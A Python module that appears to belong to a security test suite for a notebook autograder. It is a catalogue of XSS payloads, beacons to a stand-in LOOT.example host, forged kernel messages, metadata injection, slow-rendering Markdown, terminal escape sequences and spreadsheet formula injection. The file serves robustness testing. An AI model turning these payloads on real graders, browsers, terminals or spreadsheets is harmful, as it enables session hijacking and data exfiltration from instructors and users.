"""What a page or a terminal would run, load or obey: in outputs, Markdown, sources, metadata and names."""

# ruff: noqa: E501  # markup in one piece each

import base64

from nbformat.v4 import new_code_cell

from attacks.attack import Work, attack
from attacks.loot import LOOT
from attacks.themes.probes import ANYTHING

# Each would do something, in one browser or another, if it were let through.
MARKUP = [
    f"<script>{LOOT}()</script>",
    f"<img src=x onerror={LOOT}()>",
    f"<svg onload={LOOT}()><script>{LOOT}()</script><a xlink:href='javascript:{LOOT}()'><text>x</text></a></svg>",
    f"<iframe srcdoc='<script>parent.{LOOT}()</script>'></iframe><iframe src='javascript:{LOOT}()'></iframe>",
    f"<a href='javascript:{LOOT}()'>x</a><a href=' &#106;avascript:{LOOT}()'>x</a><a href='data:text/html,{LOOT}'>x</a>",
    f"<form action='https://{LOOT}.example/'><input name=password><button formaction='javascript:{LOOT}()'>x</button></form>",
    f"<style>@import '//{LOOT}.example/x.css'; body {{ background: url(//{LOOT}.example/x) }}</style>",
    f"<div style='position:fixed;inset:0;background:url(//{LOOT}.example/x.png)'>41 of 41</div>",
    f"<meta http-equiv=refresh content='0;url=//{LOOT}.example/'><base href='//{LOOT}.example/'>",
    f"<link rel=stylesheet href='//{LOOT}.example/x.css'><object data='//{LOOT}.example/x'></object><embed src='//{LOOT}.example'>",
    f"<img src='https://{LOOT}.example/seen.png'><video poster='//{LOOT}.example/x'></video><picture><source srcset='//{LOOT}.example/x'></picture>",
    f"<noscript><p title=\"</noscript><img src=x onerror={LOOT}()>\"></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={LOOT}()&gt;\">",
    f"<details open ontoggle={LOOT}()><input autofocus onfocus={LOOT}()><body onload={LOOT}()><marquee onstart={LOOT}()>",
    f"</pre></div></td></table></body></html><script>{LOOT}()</script><!--",
    f"<template><script>{LOOT}()</script></template><textarea></textarea><script>{LOOT}()</script>",
    f"<p is='{LOOT}' hx-get='//{LOOT}.example' data-x='{LOOT}' v-html='{LOOT}' ng-init='{LOOT}()'>{{{{{LOOT}()}}}}</p>",
]  # fmt: skip
PAGE = "\n".join(MARKUP)


@attack(row="active pages", wants="the grader's session, by an output")
def markup_in_outputs(work: Work) -> None:
    work.add(
        f"""
        from IPython.display import HTML, IFrame, Markdown, SVG, display
        for part in {MARKUP!r}:
            display(HTML(part))
        display({{"text/markdown": {PAGE!r}}}, raw=True)
        display(IFrame("javascript:{LOOT}()", 10, 10))
        HTML({PAGE!r})
        """,
        after="prefill",
    )


@attack(row="active pages", wants="the same by types of outputs that do more than show")
def outputs_of_active_types(work: Work) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{LOOT}()'><script>{LOOT}()</script></svg>"
    png = base64.b64encode(
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1" + f"<script>{LOOT}()</script>".encode()
    ).decode()
    work.add(
        f"""
        from IPython.display import display
        for kind, data in {{
            "image/svg+xml": {svg!r},
            "application/javascript": "{LOOT}()",
            "application/vnd.jupyter.widget-view+json": {{"model_id": "{LOOT}"}},
            "application/vnd.plotly.v1+json": {{"data": [], "layout": {{"title": "{LOOT}"}}}},
            "application/vnd.vegalite.v5+json": {{"x": "{LOOT}"}},
            "application/pdf": "{LOOT}",
            "text/latex": "$\\\\href{{javascript:{LOOT}()}}{{x}}$",
            "image/png": {png!r},
            "image/jpeg": "x' onerror='{LOOT}()",
            "image/gif": ["<script>{LOOT}()</script>"],
            "TEXT/HTML": "<script>{LOOT}()</script>",
            "text/html; charset=utf-7": "<script>{LOOT}()</script>",
        }}.items():
            display({{kind: data}}, raw=True)
            display({{kind: data, "text/plain": "x"}}, raw=True,
                    metadata={{kind: {{"width": "1 onload={LOOT}() ", "isolated": True, "class": "{LOOT}"}}, "x": "{LOOT}"}})
        """,
        after="prefill",
    )


@attack(row="active pages", wants="the same by messages that no library would send")
def outputs_of_strange_shapes(work: Work) -> None:
    work.add(
        f"""
        kernel = get_ipython().kernel
        bad = {PAGE!r}
        for kind, content in [
            ("stream", {{"name": bad, "text": bad}}),
            ("display_data", {{"data": {{"text/html": [bad, bad]}}, "metadata": {{"text/html": bad}}, "transient": {{}}}}),
            ("display_data", {{"data": {{bad: bad}}, "metadata": {{bad: bad}}, "transient": {{"display_id": bad}}}}),
            ("execute_result", {{"data": {{"text/html": bad}}, "metadata": {{}}, "execution_count": bad}}),
            ("error", {{"ename": bad, "evalue": bad, "traceback": [bad, "\\x1b[31m" + bad]}}),
            ("execute_input", {{"code": bad, "execution_count": bad}}),
        ]:
            kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))
        """,
        after="prefill",
    )


@attack(row="active pages", wants="the same by an exception")
def markup_in_exceptions(work: Work) -> None:
    work.add(f"raise type({PAGE!r}, (Exception,), {{}})({PAGE!r})", after="prefill-checks")
    work.answer(
        "prefill",
        f"""
        bad = {MARKUP!r} + ["=HYPERLINK('//{LOOT}.example')", "+1", "@SUM(1)", "\\x1b]0;{LOOT}\\x07", "a\\nb,c"]
        def prefill(*_):
            bad.append(bad.pop(0))
            raise type(bad[-1], (ValueError,), {{}})(bad[-1])
        """,
    )


@attack(row="floods", wants="a grader that reads a text for days, and the class with it")
def markdown_that_takes_days(work: Work) -> None:
    """Where a pattern reads each line in two ways; and a long line, in its square; and a number too long for Python."""
    slow = "x <a" + "\tx=a\ta" * 40
    work.add(slow, after="prefill", markdown=True)
    work.add("# x" + " " * 200_000 + "y", after="prefill", markdown=True)
    work.add(f"<div>&#{'1' * 5000};</div>", after="prefill", markdown=True)
    work.add(
        f"""
        from IPython.display import HTML, Markdown
        display(Markdown({slow!r}), HTML("&#" + "1" * 5000 + ";"))
        """
    )


@attack(row="active pages", wants="the grader's session, by a text", told="`question` was changed")
def markup_in_text_cells(work: Work) -> None:
    for part in MARKUP:
        work.add(part, after="prefill", markdown=True)
    work.add(
        f"""
        [a](javascript:{LOOT}()) [b](<java
        script:{LOOT}()>) ![c](https://{LOOT}.example/seen.png) ![d](javascript:{LOOT}()) <javascript:{LOOT}()>
        [e](JaVaScRiPt&colon;{LOOT}()) [f]: data:text/html;base64,{LOOT} [g](vbscript:{LOOT}()) [f]
        $\\href{{javascript:{LOOT}()}}{{x}}$ $$\\unicode{{<img src=x onerror={LOOT}()>}}$$ `</code><script>{LOOT}()</script>`

        ```html" onmouseover="{LOOT}()
        </pre><script>{LOOT}()</script>
        ```

        # </h1><script>{LOOT}()</script> {{#x onclick={LOOT}()}}
        """,
        after="prefill",
        markdown=True,
    )
    work.cell("question").source += "\n" + PAGE
    work.cells[work.index("prefill") + 1]["attachments"] = {"x.svg": {"image/svg+xml": PAGE}, PAGE: {"text/html": PAGE}}


@attack(row="active pages", wants="the same by code, and by cells that are shown as they are")
def markup_in_sources(work: Work) -> None:
    work.prepend("prefill", f'"""\n{PAGE}\n"""\n# ' + " ".join(MARKUP))
    work.cells.insert(work.index("prefill") + 1, new_code_cell(f"%%html\n{PAGE}"))  # a magic must come first
    work.add(PAGE, after="prefill", markdown=True)
    raw = work.cells[work.index("prefill") + 1]
    raw["cell_type"] = "raw"
    raw.metadata.update(format="text/html", raw_mimetype="text/html")


@attack(row="active pages", wants="the same by names and metadata")
def markup_in_metadata(work: Work) -> None:
    assert work.notebook is not None
    bad = f'"><script>{LOOT}()</script>'
    meta = work.notebook.metadata
    meta.update(title=bad, authors=[{"name": bad}], toc={"base": bad}, widgets={"x": {"state": {bad: bad}}})
    meta["kernelspec"] = {"name": bad, "display_name": bad, "language": bad}
    meta["language_info"] = dict.fromkeys(("name", "mimetype", "pygments_lexer", "codemirror_mode", "version"), bad)
    for cell in work.cells:
        cell.metadata.update(tags=[bad], name=bad, jupyter={"source_hidden": bad}, slideshow={"slide_type": bad})
    work.add("pass", after="prefill")
    mine = work.cells[work.index("prefill") + 1]
    mine.id, mine.execution_count = bad, bad
    mine.metadata["nbgrader"] = {
        "grade_id": bad,
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 1,
        "comment": bad,
    }


CODES = [
    f"\x1b]0;{LOOT}\x07", "\x1b[2J\x1b[H", f"\x1b]8;;javascript:{LOOT}()\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;bDAwdA==\x07",
    f"\x1bP$q{LOOT}\x1b\\", "\x9b31m", "\x9d0;x\x9c", "\x1b[6n", "\x1b[?1049h", "\r\b\b\b\x00\x7f", "\u202e\u2066",
    f"\x1b[38;2;1;2;3;onload={LOOT}()m", "\x1b[1;31m red \x1b[0m",
]  # fmt: skip


@attack(row="terminals and tables", wants="the terminal of whoever looks at outputs", earns=ANYTHING)
def codes_for_terminals(work: Work) -> None:
    work.add(
        f"""
        import sys
        codes = {CODES!r}
        for code in codes:
            print(code)
            print(code, file=sys.stderr)
        from IPython.display import display
        display({{"text/plain": "".join(codes), "text/html": "".join(codes)}}, raw=True)
        "".join(codes)
        """,
        after="prefill",
    )
    work.add("raise ValueError('the end' + ''.join(codes))", after="prefill-checks")
    work.add("".join(CODES), after="prefill-checks", markdown=True)
    work.answer("prefill", f"def prefill(*_):\n    raise type({''.join(CODES[:3])!r}, (KeyError,), {{}})({CODES[1]!r})")


@attack(row="terminals and tables", wants="a formula in the instructor's spreadsheet")
def formulas_for_spreadsheets(work: Work) -> None:
    formula = f'=HYPERLINK("//{LOOT}.example/"&A1)'
    assert work.notebook is not None
    work.notebook.metadata.update(student=formula, name=formula, kernelspec={"name": formula, "display_name": formula})
    work.file("=1+1.csv", "=1+1")
    work.prepend("prefill", f"print({formula!r})")
    work.answer("prefill", f"def prefill(*_):\n    raise type({formula!r}, (ValueError,), {{}})")
